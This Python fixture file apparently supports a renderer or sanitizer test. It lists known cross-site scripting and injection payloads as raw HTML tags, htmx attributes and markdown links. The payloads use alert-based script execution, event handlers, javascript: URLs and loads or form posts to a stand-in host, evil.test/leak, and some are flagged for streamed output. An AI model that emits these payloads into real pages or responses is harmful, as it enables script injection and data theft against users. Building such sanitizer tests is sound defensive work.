"""What a model might be made to write: ways into a page that are known to the public, in our own words."""

from __future__ import annotations

RUNS = "alert(document.domain)"
AWAY = "http://evil.test/leak"

TAGS = [
    f"<script>{RUNS}</script>",
    f"<ScRiPt>{RUNS}</sCrIpT>",
    f"<script\n>{RUNS}</script\n>",
    f"<script src={AWAY}.js></script>",
    f"<img src=x onerror={RUNS}>",
    f"<img src={AWAY}.png>",
    f'<img src="x` `<script>{RUNS}</script>"` `>',
    f"<svg onload={RUNS}>",
    f"<svg><script>{RUNS}</script></svg>",
    f"<svg><animate onbegin={RUNS} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUNS}>#x'/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUNS}>",
    f"<iframe srcdoc='<script>parent.{RUNS}</script>'></iframe>",
    f"<iframe src=javascript:{RUNS}></iframe>",
    f"<object data={AWAY}></object><embed src={AWAY}>",
    f"<video autoplay src={AWAY} onerror={RUNS}></video><audio src=x onerror={RUNS}>",
    f"<details open ontoggle={RUNS}>x</details>",
    f"<body onload={RUNS}>",
    f"<input autofocus onfocus={RUNS}>",
    f"<form action={AWAY}><button>x</button></form>",
    f"<base href={AWAY}>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<style>@import '{AWAY}';body{{background:url({AWAY})}}</style>",
    f'<p style="background:url({AWAY})" onclick={RUNS}>x</p>',
    f"<template><script>{RUNS}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUNS}>">',
    f"<!--><script>{RUNS}</script>-->",
    f"<![CDATA[<script>{RUNS}</script>]]>",
    f"</p></div></article></main><script>{RUNS}</script>",
    f"<kontext-ad data-origin='{AWAY}'></kontext-ad><message-status data-state=complete></message-status>",
]
HTMX = [
    '<div hx-get="/pwned" hx-trigger="load">x</div>',
    '<div data-hx-get="/pwned" data-hx-trigger="load">x</div>',
    '<div hx-trigger="every 10ms" hx-post="/pwned">x</div>',
    f'<div hx-on::load="{RUNS}" hx-on:click="{RUNS}">x</div>',
    '<div hx-ext="ws" ws-connect="/pwned">x</div><div sse-connect="/pwned">x</div>',
    '<div hx-swap-oob="true" id="composer">x</div><div hx-swap-oob="delete" id="chat"></div>',
    '<div hx-vals="js:{x: alert(1)}" hx-get="/pwned" hx-trigger="revealed">x</div>',
    '`<div hx-get="/pwned" hx-trigger="load">` and [x](/pwned "hx-get=/pwned")',
]
MARKDOWN = [
    f"[link](javascript:{RUNS})",
    f"[link](JAVASCRIPT&colon;{RUNS})",
    f"[link](java\tscript:{RUNS})",
    f"[link](&#x6A;avascript:{RUNS})",
    f"[link](\x01javascript:{RUNS})",
    f"[link](data:text/html,<script>{RUNS}</script>)",
    f"[link](vbscript:{RUNS})",
    "[link](//evil.test/leak)",
    "[link](/pwned)",
    f'[link]({AWAY} "x" onmouseover="{RUNS}")',
    f'[link]({AWAY}"onmouseover="{RUNS})',
    f"![picture]({AWAY}.png)",
    f"![picture](javascript:{RUNS})",
    f'![" onerror="{RUNS}]({AWAY}.png)',
    f"[![picture]({AWAY}.png)](javascript:{RUNS})",
    f"<javascript:{RUNS}>",
    f"[ref]: javascript:{RUNS}\n[ref]",
    f'```html" onmouseover="{RUNS}\n<script>{RUNS}</script>\n```',
    f"| a | <img src=x onerror={RUNS}> |\n|---|---|\n| [x](javascript:{RUNS}) | <script>{RUNS}</script> |",
    f"> - <svg onload={RUNS}>\n>   1. [x](javascript:{RUNS})",
    f"**<img src=x onerror={RUNS}>** ~~<script>{RUNS}</script>~~ `<script>{RUNS}</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    f'http://a.test/"onclick={RUNS}//',
]
CORPUS = [*TAGS, *HTMX, *MARKDOWN]
CUT_EVERYWHERE = [
    TAGS[0],
    TAGS[4],
    TAGS[7],
    TAGS[12],
    HTMX[0],
    HTMX[7],
    MARKDOWN[0],
    MARKDOWN[12],
    MARKDOWN[17],
    MARKDOWN[18],
]
"""Those that are also streamed character by character."""
